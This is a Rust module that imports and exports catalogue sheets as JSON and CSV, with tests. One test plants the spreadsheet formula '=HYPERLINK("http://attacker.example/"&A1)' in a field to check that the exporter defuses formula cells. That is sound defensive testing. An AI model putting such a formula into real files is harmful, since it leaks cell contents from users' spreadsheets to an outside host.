//! Sheets in and out as JSON and CSV.
//!
//! One record per sheet: its front-matter keys (`page` is the page name, `form`, `lang`,
//! `translation`, then the fields) and `body`, the Markdown after the front matter. In JSON a
//! record is an object and the file an array of records. In CSV the first line names the
//! columns; a text is written as it is, and a list or a range as its JSON
//! (`["decide","plan"]`, `{"min":4,"max":30}`); a cell a spreadsheet would run as a formula is
//! written as text, records end in CRLF, and an import reads `;` as well as `,` between cells
//! (`crate::spreadsheet`). An export can be imported back unchanged.

use serde_json::{Map, Value};

use crate::catalogue::form::{FieldKind, Form};
use crate::catalogue::sheet::{FrontMatter, HEADER_KEYS, Sheet};
use crate::spreadsheet::{self, defuse, restore};

/// Most records in one import: a bound on the work of one request.
pub const MAX_RECORDS: usize = 2_000;

/// One record of an import, numbered from 1 in the order of the file.
#[derive(Debug, Clone)]
pub struct Record {
    pub row: usize,
    pub front: FrontMatter,
    pub body: String,
}

/// Why a file could not be read at all (one message id; nothing is imported).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FileError(pub &'static str, pub String);

/// The export of some sheets, each with its current page name, as a JSON array.
pub fn to_json(sheets: &[(String, Sheet)]) -> Value {
    Value::Array(
        sheets
            .iter()
            .map(|(name, sheet)| {
                let mut object = Map::new();
                for (key, value) in &sheet.front {
                    object.insert(key.clone(), value.clone());
                }
                object.insert("page".into(), Value::String(name.clone()));
                object.insert("body".into(), Value::String(sheet.body.clone()));
                Value::Object(object)
            })
            .collect(),
    )
}

fn cell(value: Option<&Value>) -> String {
    match value {
        None | Some(Value::Null) => String::new(),
        Some(Value::String(text)) => text.clone(),
        Some(other) => other.to_string(),
    }
}

/// The export as CSV: the header keys, the form's fields, any other key found, then `body`;
/// behind a byte order mark with `bom` (for spreadsheets).
pub fn to_csv(form: &Form, sheets: &[(String, Sheet)], bom: bool) -> Result<String, csv::Error> {
    let mut columns: Vec<String> = HEADER_KEYS.iter().map(|k| (*k).to_owned()).collect();
    columns.extend(form.fields().map(|f| f.key.clone()));
    for (_, sheet) in sheets {
        for key in sheet.front.keys() {
            if !columns.contains(key) {
                columns.push(key.clone());
            }
        }
    }
    columns.push("body".into());
    let mut writer = spreadsheet::writer();
    writer.write_record(&columns)?;
    for (name, sheet) in sheets {
        let row: Vec<String> = columns
            .iter()
            .map(|key| match key.as_str() {
                "page" => name.clone(),
                "body" => sheet.body.clone(),
                key => cell(sheet.front.get(key)),
            })
            .map(|text| defuse(&text).into_owned())
            .collect();
        writer.write_record(&row)?;
    }
    spreadsheet::finish(writer, bom)
}

fn record_from_object(row: usize, object: Map<String, Value>) -> Record {
    let mut front = FrontMatter::new();
    let mut body = String::new();
    for (key, value) in object {
        if key == "body" {
            body = value.as_str().unwrap_or("").to_owned();
        } else {
            front.insert(key, value);
        }
    }
    Record { row, front, body }
}

pub fn from_json(text: &str) -> Result<Vec<Record>, FileError> {
    let value: Value =
        serde_json::from_str(text).map_err(|e| FileError("import-bad-json", e.to_string()))?;
    let Value::Array(items) = value else {
        return Err(FileError("import-not-array", String::new()));
    };
    if items.len() > MAX_RECORDS {
        return Err(FileError("import-too-many", MAX_RECORDS.to_string()));
    }
    items
        .into_iter()
        .enumerate()
        .map(|(i, item)| match item {
            Value::Object(object) => Ok(record_from_object(i + 1, object)),
            _ => Err(FileError("import-not-object", (i + 1).to_string())),
        })
        .collect()
}

/// Reads CSV; cells of list, range and record fields are JSON (see the module documentation).
pub fn from_csv(form: &Form, text: &str) -> Result<Vec<Record>, FileError> {
    let mut reader = spreadsheet::reader(text, false);
    let headers: Vec<String> = reader
        .headers()
        .map_err(|e| FileError("import-bad-csv", e.to_string()))?
        .iter()
        .map(|h| h.trim().to_owned())
        .collect();
    let mut records = Vec::new();
    for (i, row) in reader.records().enumerate() {
        if i >= MAX_RECORDS {
            return Err(FileError("import-too-many", MAX_RECORDS.to_string()));
        }
        let row = row.map_err(|e| FileError("import-bad-csv", e.to_string()))?;
        let mut object = Map::new();
        for (key, cell) in headers.iter().zip(row.iter().map(restore)) {
            if cell.is_empty() {
                continue;
            }
            let structured = form.field(key).is_some_and(|f| {
                !matches!(
                    f.kind,
                    FieldKind::Text
                        | FieldKind::Markdown
                        | FieldKind::Number
                        | FieldKind::Choice
                        | FieldKind::Url
                        | FieldKind::PageLink
                        | FieldKind::Licence
                )
            });
            let value = if structured {
                serde_json::from_str(cell).unwrap_or_else(|_| Value::String(cell.to_owned()))
            } else {
                Value::String(cell.to_owned())
            };
            object.insert(key.clone(), value);
        }
        records.push(record_from_object(i + 1, object));
    }
    Ok(records)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::catalogue::sheet::parse;

    #[test]
    fn an_export_reads_back_as_the_same_records() {
        let form = Form::parse(include_str!("../../catalogue/forms/method.yaml")).unwrap();
        let sheet = parse(include_str!("../../catalogue/methods/fr/world-cafe.md"))
            .unwrap()
            .unwrap();
        let sheets = vec![("World Café (fr)".to_owned(), sheet.clone())];
        let csv = to_csv(&form, &sheets, false).unwrap();
        let from_csv = from_csv(&form, &csv).unwrap();
        let json = to_json(&sheets).to_string();
        let from_json = from_json(&json).unwrap();
        for records in [from_csv, from_json] {
            assert_eq!(records.len(), 1);
            assert_eq!(records[0].body, sheet.body);
            assert_eq!(records[0].front["purposes"], sheet.front["purposes"]);
            assert_eq!(records[0].front["steps"], sheet.front["steps"]);
            assert_eq!(records[0].front["page"], "World Café (fr)");
        }
    }

    #[test]
    fn cells_a_spreadsheet_would_run_are_exported_as_text_and_imported_back_whole() {
        let form = Form::parse(include_str!("../../catalogue/forms/method.yaml")).unwrap();
        let mut sheet = parse(include_str!("../../catalogue/methods/fr/world-cafe.md"))
            .unwrap()
            .unwrap();
        let formula = "=HYPERLINK(\"http://attacker.example/\"&A1)";
        sheet
            .front
            .insert("summary".into(), Value::String(formula.into()));
        sheet.body = "- first step\n- second step\n".into();
        let sheets = vec![("@Sneaky".to_owned(), sheet.clone())];
        let csv = to_csv(&form, &sheets, false).unwrap();
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        for cell in reader.records().next().unwrap().unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@']),
                "a cell a spreadsheet would run: {cell}"
            );
        }
        let back = from_csv(&form, &csv).unwrap();
        assert_eq!(back[0].front["summary"], formula);
        assert_eq!(back[0].front["page"], "@Sneaky");
        assert_eq!(back[0].body, sheet.body);
    }

    #[test]
    fn unreadable_files_say_why() {
        assert_eq!(from_json("{").unwrap_err().0, "import-bad-json");
        assert_eq!(from_json("{}").unwrap_err().0, "import-not-array");
        assert_eq!(from_json("[1]").unwrap_err().0, "import-not-object");
    }
}
